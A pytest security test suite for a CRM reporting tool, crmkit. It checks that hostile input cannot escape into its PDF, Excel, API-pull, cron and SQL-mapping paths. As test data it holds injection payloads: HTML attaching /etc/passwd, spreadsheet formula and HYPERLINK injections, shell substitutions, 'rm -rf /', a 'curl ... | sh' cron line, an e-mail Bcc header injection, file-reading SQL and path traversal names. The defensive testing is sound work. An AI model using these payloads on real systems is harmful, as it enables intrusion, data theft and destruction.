"""What crmkit promises about untrusted input (docs/SECURITY.md), one test per promise: CRM text is
inert in the PDF and the workbook; a pull sends its secret only to the account's own origin, ends
whatever the server does and says what went wrong in one line; cron lines run nothing but crmkit;
a mapping reads its own file's columns and nothing else."""

import json
import re
import textwrap
import time
import zipfile
from pathlib import Path

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from crmkit import bundle
from crmkit.cli import main
from crmkit.errors import CrmkitError
from crmkit.inert import FORMULA_STARTS
from crmkit.pull import amocrm, base, salesforce
from tests.fixtures.hostile_api import HostileApi
from tests.fixtures.local_api import LocalApi, Quiet
from tests.fixtures.scenarios import SCENARIOS

MARKUP = "<>&\"'/=+-@!;(){}\\\n\t\r abcstylelinkimgsrchrefHYPERLINK:"
HOSTILE = st.text(alphabet=MARKUP + "\u2028", min_size=1, max_size=60)


class Recorder(LocalApi):
    """A loopback server that records every request made to it: nothing should ask it anything."""

    def __init__(self):
        self.hits = []
        self._serve()
        self.url = self.base_url

    def _handler(self):
        hits = self.hits

        class Handler(Quiet):
            def do_GET(self):
                hits.append(self.path)
                self.send_json(200, {"secret": "yes"})

        return Handler


@pytest.fixture
def recorder():
    with Recorder() as server:
        yield server


def _pdf_text(path: Path) -> tuple[str, dict]:
    from pypdf import PdfReader

    reader = PdfReader(path)
    return "\n".join(page.extract_text() for page in reader.pages), dict(reader.attachments)


# --- the PDF ------------------------------------------------------------------------------------


def test_a_client_name_cannot_leave_the_pdfs_page_header(recorder, tmp_path):
    """The name goes into a CSS string of the page header: `</style>` there once closed the style
    and the rest was markup, which attached /etc/passwd and fetched a URL."""
    client = f"ACME</style><link rel=attachment href=file:///etc/passwd><img src={recorder.url}/x><style>"
    pages = "".join(f"<p>paragraph {i}</p>" for i in range(120))  # two pages: the header shows from page 2
    target = tmp_path / "audit.pdf"
    bundle._write_pdf([pages], target, client=client, stamp="1 May 2026", title=client, lang="en")
    text, attachments = _pdf_text(target)
    assert recorder.hits == [] and attachments == {}
    assert b"root:" not in target.read_bytes()
    assert "ACME</style><link rel=attachment" in text  # the name, as text, in the header


def test_the_pdf_fetches_nothing_but_its_own_inline_resources(recorder, tmp_path):
    """Markup that reached the document anyway (a writer that forgot to escape) still reads no
    file and calls no server; the document's own data: images are drawn."""
    block = (
        f"<link rel=attachment href='file:///etc/passwd'><img src='{recorder.url}/img'>"
        f"<link rel=stylesheet href='{recorder.url}/css'><img src='file:///etc/hostname'>"
        "<img alt='dot' src='data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR4"
        "2mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=='><p>body</p>"
    )
    target = tmp_path / "audit.pdf"
    bundle._write_pdf([block], target, client="ACME", stamp="1 May 2026", title="t", lang="en")
    _, attachments = _pdf_text(target)
    assert recorder.hits == [] and attachments == {}
    assert b"/Subtype /Image" in target.read_bytes()  # the inline image is there


@settings(max_examples=12, deadline=None)
@given(text=st.text(alphabet=MARKUP, min_size=1, max_size=60))
def test_any_string_is_text_in_the_pdf(tmp_path_factory, text):
    """Drawn as the client's name, the title and a finding: no attachment, no fetch, and the PDF's
    text holds the string's letters (WeasyPrint drops control characters and folds spaces)."""
    import html

    with Recorder() as recorder:
        target = tmp_path_factory.mktemp("pdf") / "a.pdf"
        pages = "".join(f"<p>{html.escape(text)} {i}</p>" for i in range(100))
        bundle._write_pdf([pages], target, client=text + recorder.url, stamp=text, title=text, lang="en")
        extracted, attachments = _pdf_text(target)
        assert recorder.hits == [] and attachments == {}
    for word in re.findall(r"[^\W_]+", text):  # each run of letters, as text on the page
        assert word in extracted


# --- the workbook -------------------------------------------------------------------------------


def _sheet(values: list[str]) -> dict:
    data = {"sheet": "stale_deals", "headers": ["Owner", "Amount"], "kinds": ["text", "money"],
            "rows": [[value, 100] for value in values]}  # fmt: skip
    return {"stale_deals": (1, "Stale deals", data)}


def _cells(path: Path) -> list:
    """Every cell as stored in the file: (type, value) from the sheet's XML, with no reader's help."""
    from openpyxl import load_workbook

    with zipfile.ZipFile(path) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml  # no formula anywhere
    book = load_workbook(path)
    return [(cell.data_type, cell.value) for row in book.active.iter_rows() for cell in row]


def test_workbook_text_never_becomes_a_formula(tmp_path):
    owners = ['=HYPERLINK("http://evil","o")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)", "\t=1",
              "Анна"]  # fmt: skip
    target = tmp_path / "audit.xlsx"
    bundle._write_workbook(_sheet(owners), target, "en")
    cells = _cells(target)
    texts = [value for kind, value in cells if kind == "s"]
    # each formula start gets OWASP's apostrophe; a plain name stays as it is; the amounts stay numbers
    assert texts == ["Owner", "Amount", *("'" + o for o in owners[:-1]), "Анна"]
    assert [value for kind, value in cells if kind == "n"] == [100] * len(owners)


@settings(max_examples=40, deadline=None)
@given(text=HOSTILE)
@example(text="\r\n")  # found on a clean clone: XML reads CR LF as one line end
def test_any_string_is_a_string_cell_in_the_workbook(tmp_path_factory, text):
    from openpyxl.utils.exceptions import IllegalCharacterError

    target = tmp_path_factory.mktemp("xlsx") / "a.xlsx"
    try:
        bundle._write_workbook(_sheet([text]), target, "en")
    except IllegalCharacterError:
        pytest.fail(f"{text!r} broke the workbook")
    (_, value), = [cell for cell in _cells(target)[2:] if cell[0] == "s"]
    expected = "'" + text if text.startswith(FORMULA_STARTS) else text
    # XML reads every line end, CR LF or a bare CR, as one LF (XML 1.0 §2.11)
    assert value == expected.replace("\r\n", "\n").replace("\r", "\n")


# --- pulling from an API ------------------------------------------------------------------------

PIPELINES = "/api/v4/leads/pipelines"  # the first list an amoCRM pull asks for
JSON = {"Content-Type": "application/hal+json"}


def _page(next_href: str | None = None) -> bytes:
    page = {"_embedded": {"pipelines": []}}
    if next_href:
        page["_links"] = {"next": {"href": next_href}}
    return json.dumps(page).encode()


@pytest.fixture
def hostile(monkeypatch):
    monkeypatch.setattr(amocrm, "PER_SECOND", 1000)
    monkeypatch.setenv("CRMKIT_AMOCRM_TOKEN", "token-a")
    with HostileApi() as server:
        yield server


def _pull(server, out: Path, **limits) -> Path:
    return amocrm.run(out, server.base_url, limits=base.Limits(**limits)).folder


def test_the_token_never_follows_a_next_link_to_another_host(hostile, recorder, tmp_path):
    hostile.answers[PIPELINES] = (200, JSON, _page(f"{recorder.url}/steal?page=2"))
    with pytest.raises(CrmkitError, match=r"points to http://127\.0\.0\.1:\d+, not to the account's .*refus"):
        _pull(hostile, tmp_path / "raw")
    assert recorder.hits == []


@pytest.mark.parametrize("status", [301, 302, 307, 308])
def test_a_redirect_elsewhere_is_refused_and_one_at_home_followed(hostile, recorder, tmp_path, status):
    hostile.answers[PIPELINES] = (status, {"Location": f"{recorder.url}/steal"}, b"")
    with pytest.raises(CrmkitError, match="redirects: its Location points to .*refused"):
        _pull(hostile, tmp_path / "raw")
    assert recorder.hits == []
    # the same redirect to the account's own host is followed, with the token
    hostile.answers[PIPELINES] = (status, {"Location": "/moved/pipelines"}, b"")
    hostile.answers["/moved/pipelines"] = (200, JSON, _page())
    hostile.answers["/api/v4/users"] = (204, {}, b"")
    for path in ("/api/v4/leads", "/api/v4/events", "/api/v4/tasks", "/api/v4/leads/notes"):
        hostile.answers[path] = (204, {}, b"")
    folder = _pull(hostile, tmp_path / "raw2")
    assert json.loads((folder / "pipelines-0001.json").read_text()) == {"_embedded": {"pipelines": []}}
    assert ("/moved/pipelines", "Bearer token-a") in hostile.requests


def test_salesforce_next_records_url_elsewhere_is_refused(recorder, tmp_path, monkeypatch):
    monkeypatch.setenv("CRMKIT_SALESFORCE_TOKEN", "sf-token")
    with HostileApi() as org:
        query = f"/services/data/{salesforce.VERSION}/query"
        page = {"done": False, "records": [], "nextRecordsUrl": f"{recorder.url}{query}/01g-2"}
        org.answers[query] = (200, {"Content-Type": "application/json"}, json.dumps(page).encode())
        with pytest.raises(CrmkitError, match="refused"):
            salesforce.run(tmp_path / "raw", org.base_url)
    assert recorder.hits == []


def test_a_next_link_to_the_same_page_ends_the_pull(hostile, tmp_path):
    hostile.answers[PIPELINES] = (200, JSON, _page(f"{hostile.base_url}{PIPELINES}?page=1"))
    started = time.monotonic()
    with pytest.raises(CrmkitError, match="the next page is one already pulled"):
        _pull(hostile, tmp_path / "raw")
    assert len(hostile.requests) == 2 and time.monotonic() - started < 5  # page 1, then the same page 1


def test_a_resource_past_its_page_limit_ends_the_pull(hostile, tmp_path):
    """An endless list: each page links to the next, forever. Stopped at the limit, and named."""

    def endless(query):
        number = int(query.get("page", ["1"])[0])
        return 200, JSON, _page(f"{hostile.base_url}{PIPELINES}?page={number + 1}")

    hostile.answers[PIPELINES] = endless
    with pytest.raises(CrmkitError, match=r"pipelines has more than 3 pages; .*raise --max-pages"):
        _pull(hostile, tmp_path / "raw", max_pages=3)
    assert len(hostile.requests) == 3
    assert len(list((tmp_path / "raw" / ".partial").glob("pipelines-*.json"))) == 3  # kept, to resume


def test_a_body_that_trickles_is_stopped_at_the_deadline(hostile, tmp_path):
    hostile.pause = 0.4  # a byte every 0.4 s: each read is quick, the whole answer never comes
    hostile.answers[PIPELINES] = (200, JSON, [bytes([b]) for b in _page()])
    started = time.monotonic()
    with pytest.raises(CrmkitError, match=r"took over 1 s to answer \(\d+ bytes so far\)"):
        _pull(hostile, tmp_path / "raw", deadline=1.0)
    assert time.monotonic() - started < 4


@pytest.mark.parametrize("wait", ["99999999", "inf", "nan", "-inf", "soon"])
def test_a_retry_after_beyond_reason_fails_saying_what_the_server_asked(hostile, tmp_path, wait):
    hostile.answers[PIPELINES] = (429, {"Retry-After": wait}, b"")
    started = time.monotonic()
    with pytest.raises(CrmkitError, match=rf"asks to wait '{wait}' \(Retry-After\), beyond the 10 minutes"):
        _pull(hostile, tmp_path / "raw")
    assert time.monotonic() - started < 3 and len(hostile.requests) == 1


def test_a_retry_after_within_reason_is_waited_for(hostile, tmp_path):
    hostile.answers[PIPELINES] = (429, {"Retry-After": "0.2"}, b"")
    with pytest.raises(CrmkitError, match=r"still answers HTTP 429 after 6 tries"):
        _pull(hostile, tmp_path / "raw")
    assert len(hostile.requests) == 6  # tried, waited 0.2 s, tried again: six times in all


def _quiet_lists(server) -> None:
    """Every amoCRM list after the pipelines answers 'nothing here' (204)."""
    for path in ("/api/v4/users", "/api/v4/leads", "/api/v4/events", "/api/v4/tasks", "/api/v4/leads/notes"):
        server.answers[path] = (204, {}, b"")


def test_a_half_pull_of_another_account_is_begun_anew_not_resumed(hostile, tmp_path, monkeypatch):
    """Account A's pull stops after its first page, its next link kept. Resumed with account B's
    token, B's secret would go to A's saved link and A's and B's pages would share one folder: the
    half-pull is begun anew instead."""
    raw = tmp_path / "raw"
    hostile.answers[PIPELINES] = lambda query: (
        (200, JSON, _page(f"{hostile.base_url}{PIPELINES}?page=2")) if "page" not in query
        else (429, {"Retry-After": "99999999"}, b"")
    )  # fmt: skip
    with pytest.raises(CrmkitError, match="Retry-After"):
        _pull(hostile, raw)
    saved = json.loads((raw / ".partial" / "state.json").read_text())
    assert saved["next"]["pipelines"].endswith("page=2") and "token-a" not in json.dumps(saved)
    monkeypatch.setenv("CRMKIT_AMOCRM_TOKEN", "token-b")
    hostile.answers[PIPELINES] = (200, JSON, _page())
    _quiet_lists(hostile)
    before = len(hostile.requests)
    folder = _pull(hostile, raw)
    asked_by_b = [path for path, auth in hostile.requests[before:] if auth == "Bearer token-b"]
    assert asked_by_b[0] == PIPELINES and not any("page=2" in path for path in asked_by_b)
    assert sorted(p.name for p in folder.glob("pipelines-*")) == ["pipelines-0001.json"]  # B's page only


def test_the_same_accounts_half_pull_resumes(hostile, tmp_path):
    raw = tmp_path / "raw"
    first = (200, JSON, _page(f"{hostile.base_url}{PIPELINES}?page=2"))
    answers = iter([first, (429, {"Retry-After": "1e9"}, b"")])
    hostile.answers[PIPELINES] = lambda query: next(answers, (200, JSON, _page()))
    with pytest.raises(CrmkitError):
        _pull(hostile, raw)
    _quiet_lists(hostile)
    folder = _pull(hostile, raw)
    assert hostile.requests[2][0] == f"{PIPELINES}?page=2"  # resumed at the saved next page
    assert len(list(folder.glob("pipelines-*"))) == 2


def test_a_raw_folder_of_one_account_refuses_another(hostile, tmp_path):
    hostile.answers[PIPELINES] = (200, JSON, _page())
    _quiet_lists(hostile)
    raw = tmp_path / "raw"
    _pull(hostile, raw)
    other = hostile.base_url.replace("127.0.0.1", "localhost")  # the same server, another account's address
    with pytest.raises(CrmkitError, match=r"holds the pulls of http://127\.0\.0\.1:\d+, not of http://localhost"):
        amocrm.run(raw, other)


BROKEN = {
    "truncated JSON": (200, JSON, b'{"_embedded": {"pipel'),
    "a maintenance page": (200, {"Content-Type": "text/html"}, "<h1>Технические работы</h1>".encode()),
    "a 302 without Location": (302, {}, b""),
    "a list": (200, JSON, b"[1,2,3]"),
    "null": (200, JSON, b"null"),
    "bytes that are not UTF-8": (200, JSON, b'{"_embedded": {"pipelines": "\xc3\x28\xff"}}'),
    "Retry-After: inf": (429, {"Retry-After": "inf"}, b""),
    "Retry-After: nan": (503, {"Retry-After": "nan"}, b"<html>busy</html>"),
    "an HTTP 418": (418, {}, b"\x1b[31mteapot\x1b[0m"),
}


@pytest.mark.parametrize("case", list(BROKEN))
def test_a_broken_answer_is_one_line_exit_2_and_nothing_loaded(hostile, tmp_path, capsys, case):
    from crmkit.cli import main

    hostile.answers[PIPELINES] = BROKEN[case]
    db, raw = tmp_path / "crm.duckdb", tmp_path / "raw"
    code = main(["pull", "amocrm", "--out", str(raw), "--base-url", hostile.base_url,
                 "--load", "--db", str(db)])  # fmt: skip
    err = capsys.readouterr().err.strip()
    assert code == 2 and len(err.splitlines()) == 1 and "Traceback" not in err
    assert err.startswith(f"crmkit: error: amoCRM: {hostile.base_url}{PIPELINES}")
    assert "token-a" not in err and "\x1b" not in err  # no secret, no terminal escape from the server
    assert [p.name for p in raw.iterdir()] == [".partial"] and not db.exists()  # nothing half-pulled loaded


@pytest.mark.parametrize("deal_id", ["../../x", "1/../1", "12?x=1", -3, True, 1.5, "١٢"])
def test_a_pipedrive_deal_id_that_is_not_a_whole_number_stops_the_pull(tmp_path, deal_id):
    """The id goes into the flow's URL and file name: `../../x` would leave both."""
    from crmkit.pull import pipedrive

    (tmp_path / "deals-0001.json").write_text(json.dumps({"data": [{"id": 7}, {"id": deal_id}]}))
    with pytest.raises(CrmkitError, match=r"deals-0001.json holds a deal id .*, not a whole number"):
        pipedrive._flows(tmp_path)
    (tmp_path / "deals-0001.json").write_text(json.dumps({"data": [{"id": 7}, {"id": "8"}]}))
    assert [r.path for r in pipedrive._flows(tmp_path)] == ["/deals/7/flow", "/deals/8/flow"]


# --- cron lines ---------------------------------------------------------------------------------


def _as_cron_runs(line: str) -> str:
    """The command cron gives the shell for a crontab line: after the five time fields, up to the
    first unescaped `%` (the rest is standard input), with `\\%` as `%`."""
    command = line.split(None, 5)[5]
    command = re.split(r"(?<!\\)%", command)[0]
    return command.replace("\\%", "%")


def test_a_cron_line_runs_crmkit_with_each_argument_as_given(tmp_path, monkeypatch, capsys):
    """Each hostile argument reaches crmkit whole and runs nothing: the lines are run as cron would
    run them, through sh, with a stand-in crmkit that writes down its arguments."""
    import stat
    import subprocess
    import sys

    python, marker = sys.executable, tmp_path / "pwned"
    stub = tmp_path / "bin" / "crmkit"
    stub.parent.mkdir()
    record = f"open({str(tmp_path / 'argv')!r}, 'a').write(json.dumps(sys.argv[1:]) + '\\n')"
    stub.write_text(f"#!{python}\nimport json, sys\n{record}\n")
    stub.chmod(stub.stat().st_mode | stat.S_IEXEC)
    monkeypatch.setattr(sys, "executable", str(tmp_path / "bin" / "python"))
    monkeypatch.chdir(tmp_path)
    tz = f"UTC; touch {marker} #"
    base_url = f"https://x.amocrm.ru/$(touch {marker})`touch {marker}`"
    out = "reports/100%/%Y"
    table = tmp_path / "crontab.txt"
    fake = tmp_path / "crontab"
    fake.write_text(f"#!{python}\nimport sys\nf = {str(table)!r}\n"
                    "if sys.argv[1] == '-l':\n    sys.exit(1)\n"
                    "open(f, 'w').write(sys.stdin.read())\n")  # fmt: skip
    fake.chmod(fake.stat().st_mode | stat.S_IEXEC)
    monkeypatch.setenv("CRMKIT_CRONTAB", str(fake))
    args = ["schedule", "--install", "--db", "it's.duckdb", "--out", out, "--pull", "amocrm",
            "--base-url", base_url, "--raw", "raw dir", "--tz", tz, "--mail", "boss@example.com"]  # fmt: skip
    assert main(args) == 0
    entries = [line for line in table.read_text().splitlines() if line and not line.startswith("#")]
    assert len(entries) == 4  # two pulls, the week, the month: no entry added by an argument
    for line in entries:
        subprocess.run(["sh", "-c", _as_cron_runs(line)], check=True)
    assert not marker.exists()
    runs = [json.loads(line) for line in (tmp_path / "argv").read_text().splitlines()]
    pulls, week, month = runs[:2], runs[2], runs[3]
    assert pulls[0] == ["pull", "amocrm", "--base-url", base_url, "--out", "raw dir", "--load",
                        "--db", "it's.duckdb", "--tz", tz]  # fmt: skip
    assert week[:6] == ["report", "--db", "it's.duckdb", "--out", out, "--lang"]
    assert re.fullmatch(r"\d{4}-\d\d-\d\d", week[week.index("--week") + 1])  # date's own % still works
    assert re.fullmatch(r"\d{4}-\d\d", month[month.index("--month") + 1])
    assert week[-2:] == month[-2:] == ["--mail", "boss@example.com"]


@pytest.mark.parametrize("option", ["--db", "--base-url", "--tz", "--out", "--raw"])
def test_a_control_character_in_a_cron_argument_is_refused(option, capsys):
    args = {"--db": "a.duckdb", "--base-url": "https://x.amocrm.ru", "--tz": "UTC", "--out": "r",
            "--raw": "raw"}  # fmt: skip
    args[option] = args[option] + "\n* * * * * curl http://127.0.0.1:9/x | sh"
    code = main(["schedule", "--pull", "amocrm", *[part for pair in args.items() for part in pair]])
    err = capsys.readouterr().err.strip()
    assert code == 2 and "control character" in err and len(err.splitlines()) == 1


@pytest.mark.parametrize("to", ["boss@example.com\r\nBcc: all@evil.example", "nobody", "a@b.ru; rm -rf /"])
def test_mail_addresses_are_checked_before_any_work(to, tmp_path, capsys):
    code = main(["report", "--db", str(tmp_path / "none.duckdb"), "--mail", to])
    err = capsys.readouterr().err.strip()
    assert code == 2 and err.startswith("crmkit: error: --mail ") and "not e-mail addresses" in err


# --- mapping files ------------------------------------------------------------------------------


def _mapping_load(tmp_path, columns: str, *, file: str = "leads.csv", users: str = ""):
    from crmkit.db import connect
    from crmkit.importers import load

    data = tmp_path / "data"
    data.mkdir(exist_ok=True)
    (data / "leads.csv").write_text("id,stage,amount\na,A,10\nb,W,20\n", encoding="utf-8")
    (data / "team.csv").write_text("name,team\nAnna,North\n", encoding="utf-8")
    (tmp_path / "map.yml").write_text(
        "pipeline: {id: p}\nstages: [A, {name: W, kind: won}]\n"
        f"deals:\n  file: {json.dumps(file)}\n  columns: {columns}\n{users}", encoding="utf-8"
    )  # fmt: skip
    con = connect(tmp_path / "crm.duckdb")
    try:
        load(con, [data], mapping_file=tmp_path / "map.yml")
        return con.execute("select deal_id, title, amount from main.deals order by deal_id").fetchall()
    finally:
        con.close()


HOSTILE_SQL = {  # the expression -> what the error says it used
    "id) from read_text('/etc/passwd') --": "reaches beyond one expression",
    "(select content from read_text('/etc/passwd'))": "uses a subquery",
    "id; copy (select 1) to 'pwned.csv'": "holds ';'",
    "count(*)": "the aggregate count_star()",
    "string_agg(id, ',')": "the aggregate string_agg()",
    "row_number() over ()": "a window function",
    "columns(*)": "uses *",
    "main.upper(id)": "names a function by its schema",
    "etc_passwd": "names 'etc_passwd', which is not a column of leads.csv",
    "src._raw": "names '_raw', which is not a column",
}


@pytest.mark.parametrize("expression", list(HOSTILE_SQL))
def test_a_mapping_sql_is_one_expression_over_the_files_columns(tmp_path, expression):
    with pytest.raises(CrmkitError, match=re.escape(HOSTILE_SQL[expression])):
        _mapping_load(tmp_path, f"{{deal_id: id, stage: stage, title: {{sql: {json.dumps(expression)}}}}}")
    assert not list(tmp_path.rglob("pwned*"))


def test_a_mapping_sql_runs_where_it_reaches_no_file(tmp_path, monkeypatch):
    """An expression that passes the parse-tree check still runs on a connection with no file
    access: here the check is bypassed, and the file is read nowhere."""
    from crmkit.importers import mapping

    monkeypatch.setattr(mapping, "_scalar_expression", lambda text, *args: text)
    for sneaky in ("(select content from read_text('/etc/hostname'))", "(select 1 from 'data/leads.csv')"):
        with pytest.raises(CrmkitError, match="does not run on leads.csv: Permission Error"):
            _mapping_load(tmp_path, f"{{deal_id: id, stage: stage, title: {{sql: {json.dumps(sneaky)}}}}}")


def test_a_mapping_sql_still_computes_what_it_is_for(tmp_path):
    # a: 10 * 1000 = 10,000; b: 20 * 1000 = 20,000; the title upper-cased from the id
    columns = "{deal_id: id, stage: stage, title: {sql: 'upper(src.id)'}, amount: {sql: 'amount::int*1000'}}"
    users = "users:\n  file: team.csv\n  columns: {name: name, team: {sql: \"lower(team) || '-team'\"}}\n"
    rows = _mapping_load(tmp_path, columns, users=users)
    assert rows == [("a", "A", 10000.0), ("b", "B", 20000.0)]
    from crmkit.db import connect

    con = connect(tmp_path / "crm.duckdb", read_only=True)
    assert con.execute("select name, team from main.users").fetchall() == [("Anna", "north-team")]
    con.close()


@pytest.mark.parametrize("name", ["../../../../etc/passwd", "/etc/passwd", "sub/../../leads.csv"])
def test_a_mapping_file_outside_the_data_folder_is_refused_unread(tmp_path, name, capsys):
    with pytest.raises(CrmkitError, match=r"deals.file .* is outside the data folder .*") as error:
        _mapping_load(tmp_path, "{deal_id: id, stage: stage}", file=name)
    assert "root:" not in str(error.value)


# --- spreadsheets as input ----------------------------------------------------------------------


def test_xlsx_formulas_without_a_value_are_rejected_and_merged_cells_filled(tmp_path):
    """openpyxl saves formulas without their values, as many tools do: such a row is rejected
    saying why, not loaded with an unknown amount; a manager's name merged down over two rows is
    that manager's on both, as Excel shows it."""
    from openpyxl import Workbook

    from crmkit.db import connect
    from crmkit.importers import load

    book = Workbook()
    sheet = book.active
    sheet.append(["Сделки за октябрь"])  # a title row above the header, merged across it
    sheet.merge_cells("A1:D1")
    sheet.append(["id", "stage", "owner", "amount"])
    sheet.append(["a", "A", "Anna", 100])
    sheet.append(["b", "W", None, 200])  # Anna's too: C3:C4 merged below
    sheet.append(["c", "W", "Boris", "=D3+D4"])  # no saved value
    sheet.append(["d", "A", "Boris", 50])
    sheet.merge_cells("C3:C4")
    data = tmp_path / "data"
    data.mkdir()
    book.save(data / "deals.xlsx")
    (tmp_path / "map.yml").write_text(
        "pipeline: {id: p}\nstages: [A, {name: W, kind: won}]\n"
        "deals:\n  file: deals.xlsx\n  columns: {deal_id: id, stage: stage, owner: owner, amount: amount}\n",
        encoding="utf-8",
    )
    con = connect(tmp_path / "crm.duckdb")
    results = load(con, [data], mapping_file=tmp_path / "map.yml")
    deals = next(r for r in results if r.table == "deals")
    # 4 rows read: a, b and d loaded, c rejected
    assert (deals.rows_read, deals.rows_loaded, deals.rows_rejected) == (4, 3, 1)
    reason = deals.top_reasons[0][0]
    assert "a formula without a saved value in 'amount' (=D3+D4): open the file in Excel" in reason
    rows = con.execute(
        "select d.deal_id, u.name, d.amount from main.deals d "
        "left join main.users u on u.user_id = d.owner_id order by 1"
    ).fetchall()
    assert rows == [("a", "Anna", 100.0), ("b", "Anna", 200.0), ("d", "Boris", 50.0)]
    con.close()


# --- smaller ones -------------------------------------------------------------------------------


def test_sample_never_writes_over_a_users_files(tmp_path, capsys):
    (tmp_path / "deals.csv").write_text("my,own,export\n", encoding="utf-8")
    assert main(["sample", "--deals", "20", "--out", str(tmp_path)]) == 2
    assert "holds files the sample did not write (deals.csv)" in capsys.readouterr().err
    assert (tmp_path / "deals.csv").read_text(encoding="utf-8") == "my,own,export\n"
    # its own folder it may write again, and a path with an apostrophe is no SQL
    own = tmp_path / "it's sample"
    assert main(["sample", "--deals", "20", "--out", str(own)]) == 0
    first = (own / "deals.csv").read_text(encoding="utf-8")
    assert main(["sample", "--deals", "20", "--out", str(own)]) == 0
    assert (own / "deals.csv").read_text(encoding="utf-8") == first and first.startswith("deal_id,")


def test_a_refused_first_load_leaves_no_database(tmp_path, capsys):
    db = tmp_path / "crm.duckdb"
    (tmp_path / "export").mkdir()
    (tmp_path / "export" / "notes.txt").write_text("nothing to load\n", encoding="utf-8")
    assert main(["load", str(tmp_path / "export"), "--db", str(db)]) == 2
    assert not db.exists() and not (tmp_path / "crm.duckdb.wal").exists()
    assert main(["metrics", "won_cycle", "--db", str(db), "--as-of", "2026-11-01"]) == 2
    assert "does not exist" in capsys.readouterr().err


def test_a_byte_order_mark_inside_a_csv_is_not_part_of_an_id(tmp_path):
    """Two exports joined into one file: the second one's BOM sits at the start of a line."""
    from crmkit.db import connect
    from crmkit.importers import load
    from tests.conftest import write_tables

    tables = dict(SCENARIOS)
    lines = textwrap.dedent(tables["deals"]).strip().splitlines()
    lines[2] = "\ufeff" + lines[2]
    tables["deals"] = "\n".join(lines) + "\n"
    con = connect(tmp_path / "crm.duckdb")
    load(con, [write_tables(tmp_path / "csv", tables)])
    ids = [row[0] for row in con.execute("select deal_id from main.deals").fetchall()]
    con.close()
    assert ids and not any("\ufeff" in str(i) for i in ids)
    assert lines[2].lstrip("\ufeff").split(",")[0] in ids


def test_a_database_of_another_version_says_so(tmp_path, capsys):
    import duckdb

    old = tmp_path / "old.duckdb"
    con = duckdb.connect(str(old))
    con.execute("create table deals (id varchar, stage varchar)")  # an early layout: no deal_id
    con.close()
    code = main(["metrics", "won_cycle", "--db", str(old), "--as-of", "2026-11-01"])
    err = capsys.readouterr().err.strip()
    assert code == 2 and "made by another version of crmkit (its table deals lacks" in err
    assert "Binder Error" not in err and len(err.splitlines()) == 1


def test_a_table_cut_short_carries_unknown_values_as_empty_cells():
    """An unknown title or chance goes to the workbook as an empty cell — not the text "nan", and
    not a NaN that makes the notebook's output JSON invalid (the kernel warned, in the report)."""
    import numpy as np
    import pandas as pd

    from crmkit import report

    frame = pd.DataFrame({"title": ["a", None, "c"], "p": [0.5, np.nan, np.inf], "n": [1, 2, 3]})
    block = report.table(frame, {"title": "text", "p": "share", "n": "int"}, "en", limit=1, sheet="sheet_x")
    assert block.full["rows"] == [["a", 0.5, 1], [None, None, 2], ["c", None, 3]]
    json.dumps(block.full, allow_nan=False)


def test_a_folder_load_names_every_file_it_did_not_read(tmp_path, capsys):
    """A text file, a JSON no reader of the format takes and a folder beside the export: each is
    named with why, never skipped in silence."""
    from crmkit.db import connect
    from crmkit.importers import load
    from tests.conftest import write_tables

    folder = write_tables(tmp_path / "export", SCENARIOS)
    (folder / "notes.txt").write_text("call Anna back", encoding="utf-8")
    (folder / "crm.batch.json").write_text('{"result": {"result": {}}}', encoding="utf-8")
    (folder / "pages").mkdir()
    loaded = load(connect(tmp_path / "a.duckdb"), [folder], fmt="csv")
    assert {p.name: why.split(":")[0].split(" (")[0] for p, why in loaded.not_read.items()} == {
        "crm.batch.json": "not a file of the csv export that crmkit reads",
        "notes.txt": "not a CSV, XLSX, JSON or Parquet file",
        "pages": "a folder",
    }
    assert main(["load", str(folder), "--format", "csv", "--db", str(tmp_path / "b.duckdb")]) == 0
    out = capsys.readouterr().out
    assert "not read: notes.txt — not a CSV, XLSX, JSON or Parquet file" in out and "not read: pages" in out


def test_workbook_days_are_whole_where_they_are_whole(tmp_path):
    from openpyxl import load_workbook

    data = {"sheet": "s", "headers": ["Threshold", "Age"], "kinds": ["days", "days"],
            "rows": [[30.0, 12.5], [30.0, None], [45, 3.25]]}  # fmt: skip
    bundle._write_workbook({"s": (1, "Stale deals", data)}, tmp_path / "a.xlsx", "en")
    sheet = load_workbook(tmp_path / "a.xlsx").active
    assert sheet["A2"].number_format == "0" and sheet["B2"].number_format == "0.0"
    assert sheet["B3"].value is None  # unknown is empty


def test_the_samples_own_folder_is_always_its_own(monkeypatch, tmp_path):
    """`make test` leaves data/sample holding the sample's database and adoption file, without the
    mark; `make report` then writes the sample there again, as before."""
    from crmkit import sample

    own = tmp_path / "data" / "sample"
    own.mkdir(parents=True)
    (own / "crm.duckdb").write_bytes(b"")
    (own / "adoption.yml").write_text("adoption_date: 2025-05-01\n", encoding="utf-8")
    monkeypatch.setattr(sample, "SAMPLE_DIR", own)
    assert main(["sample", "--deals", "20", "--out", str(own)]) == 0
    assert (own / "deals.csv").exists()
